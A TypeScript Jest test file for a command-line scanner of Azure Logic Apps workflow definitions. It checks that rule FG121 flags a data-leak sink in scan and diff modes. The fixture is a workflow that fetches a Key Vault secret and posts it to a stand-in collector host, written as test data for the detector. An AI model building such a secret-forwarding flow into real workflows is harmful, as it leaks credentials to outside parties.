import { describe, expect, it } from '@jest/globals';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { getSecret, http, manualTrigger } from '../helpers/flow-builders.js';
import { runCli } from '../helpers/run-dist.js';

const SCHEMA =
  'https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/workflowdefinition.json#';

type JsonFinding = { ruleId: string; status: string; action: string; line: number; file: string };

/** A bare definition (`az logic workflow show --query definition`): the file root is the definition. */
function bare(actions: Record<string, unknown>): Record<string, unknown> {
  return {
    $schema: SCHEMA,
    contentVersion: '1.0.0.0',
    parameters: {
      $connections: {
        defaultValue: {},
        type: 'Object',
      },
    },
    triggers: manualTrigger(),
    actions,
    outputs: {},
  };
}

const leak = {
  Get_secret: getSecret('ApiConnection', 'partner-api-key'),
  Send: http(
    { uri: 'https://collector.example.net/in', body: { key: "@body('Get_secret')?['value']" } },
    { runAfter: { Get_secret: ['Succeeded'] } },
  ),
};

const lineOf = (text: string, needle: string) => text.split('\n').findIndex((l) => l.includes(needle)) + 1;

describe('bundled CLI on bare workflow definition files', () => {
  it('scan: a file named on the command line is read whatever its extension; FG121 points at the sink', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'fg-bare-'));
    const text = JSON.stringify(bare(leak), null, 2);
    writeFileSync(path.join(dir, 'orders.definition'), text);
    const r = runCli(['scan', path.join(dir, 'orders.definition'), '--format', 'json'], dir);
    const report = JSON.parse(r.stdout);
    expect(report.summary.flows).toBe(1);
    const fg121 = report.findings.filter((f: JsonFinding) => f.ruleId === 'FG121');
    expect(fg121.map((f: JsonFinding) => [f.action, f.line])).toEqual([['Send', lineOf(text, '"Send": {')]]);
    expect(report.findings.map((f: JsonFinding) => f.ruleId)).not.toContain('FG001');
    expect(r.status).toBe(1);
  });

  it('diff: two bare definitions in sniffed .json files; the new leak is new, re-serialising is no change', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'fg-bare-diff-'));
    const write = (side: string, doc: unknown, indent: number) => {
      mkdirSync(path.join(dir, side, 'logic'), { recursive: true });
      const text = JSON.stringify(doc, null, indent);
      writeFileSync(path.join(dir, side, 'logic', 'orders.json'), text);
      return text;
    };
    write('base', bare({ Get_secret: leak.Get_secret }), 2);
    const head = write('head', bare(leak), 2);
    write('same', bare({ Get_secret: leak.Get_secret }), 4);
    const r = runCli(['diff', 'base', 'head', '--format', 'json'], dir);
    const report = JSON.parse(r.stdout);
    const fg121 = report.findings.filter((f: JsonFinding) => f.ruleId === 'FG121');
    expect(fg121.map((f: JsonFinding) => [f.status, f.action, f.line, f.file])).toEqual([
      ['new', 'Send', lineOf(head, '"Send": {'), 'head/logic/orders.json'],
    ]);
    expect(report.summary).toMatchObject({ flows: 1, changedFlows: 1 });
    expect(r.status).toBe(1);

    const same = JSON.parse(runCli(['diff', 'base', 'same', '--format', 'json'], dir).stdout);
    expect(same.summary).toMatchObject({ flows: 1, changedFlows: 0 });
  });
});
